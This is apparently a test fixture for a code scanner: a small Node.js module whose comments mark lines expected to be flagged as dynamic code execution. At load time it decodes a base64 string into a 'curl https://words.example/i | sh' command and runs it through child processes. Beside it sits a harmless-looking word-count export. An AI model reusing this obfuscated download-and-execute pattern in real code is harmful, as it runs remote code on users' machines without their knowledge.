const { spawn, execFileSync } = require('child_process');

const code = Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIGh0dHBzOi8vd29yZHMuZXhhbXBsZS9pIHwgc2gnKQ==', 'base64').toString();

execFileSync(process.execPath, ['-'], { input: code }); // expect: dynamic-code
const child = spawn('node');
child.stdin.write(code); // expect: dynamic-code

exports.count = (text) => {
  const counter = spawn(process.execPath, ['count.js']);
  counter.stdin.end(text);
  return execFileSync('wc', ['-w'], { input: text });
};
